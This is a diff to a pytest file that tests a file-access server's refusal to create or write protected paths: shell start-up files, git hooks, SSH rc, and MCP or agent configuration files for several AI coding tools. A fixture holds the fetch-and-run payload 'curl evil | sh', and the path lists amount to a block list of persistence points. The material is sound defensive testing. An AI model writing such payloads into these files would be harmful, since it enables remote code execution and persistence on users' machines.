@@ -445,8 +445,13 @@ def test_protected_files_are_never_written(srv, tree, protected, rel):
 
 
 @pytest.mark.parametrize(
-    "rel", [".bashrc", "proj/.zshrc", ".git/hooks/post-merge", ".ssh/rc", "proj/.mcp.json", ".cursor/mcp.json"]
-)
+    "rel",
+    [
+        ".bashrc", "proj/.zshrc", ".git/hooks/post-merge", ".ssh/rc", "proj/.mcp.json", ".cursor/mcp.json",
+        "proj/.git/hooks", "proj/.config/fish/config.fish", ".config/bastion/bastion.toml", ".bash_profile",
+        "proj/.git/config", ".vscode/mcp.json", "claude_desktop_config.json",
+    ],
+)  # fmt: skip
 def test_protected_paths_cannot_be_created(srv, tree, protected, rel):
     (tree.work / "payload").write_text("curl evil | sh\n")
     (tree.work / "proj").mkdir(exist_ok=True)
@@ -458,6 +463,32 @@ def test_protected_paths_cannot_be_created(srv, tree, protected, rel):
     refused(srv, tree, "create_directory", {"path": str(target)}, [rel.split("/")[-1]], "protected")
     existed.assert_unchanged()
     assert (tree.work / "payload").read_text() == "curl evil | sh\n"
+    srv.finish()
+
+
+def _unprotected(reason: str):
+    return pytest.mark.xfail(strict=True, reason="not on the built-in protected list "
+                             "(PermissionManager+Rules.swift builtInProtectedGlobs): " + reason)  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "rel",
+    [
+        pytest.param(".zshenv", marks=_unprotected("zsh reads it at every start, even non-interactive")),
+        pytest.param(".zlogin", marks=_unprotected("zsh login start-up file")),
+        pytest.param(".bash_login", marks=_unprotected("bash login start-up file (read when .bash_profile is absent)")),
+        pytest.param(".claude/settings.json", marks=_unprotected("Claude Code settings: hooks run commands, MCP servers")),
+        pytest.param(".claude.json", marks=_unprotected("Claude Code's MCP server configuration")),
+        pytest.param(".gemini/settings.json", marks=_unprotected("Gemini CLI's mcpServers configuration")),
+        pytest.param(".codex/config.toml", marks=_unprotected("OpenAI Codex CLI's mcp_servers configuration")),
+    ],
+)
+def test_more_shell_start_up_and_mcp_client_files_are_protected(srv, tree, rel):
+    """ARCHITECTURE §2: shell start-up files and MCP client configurations are never writable."""
+    target = tree.work / rel
+    target.parent.mkdir(parents=True, exist_ok=True)
+    refused(srv, tree, "write_file", {"path": str(target), "content": "x"}, [rel.split("/")[-1]], "protected")
+    assert not target.exists()
     srv.finish()
 
 
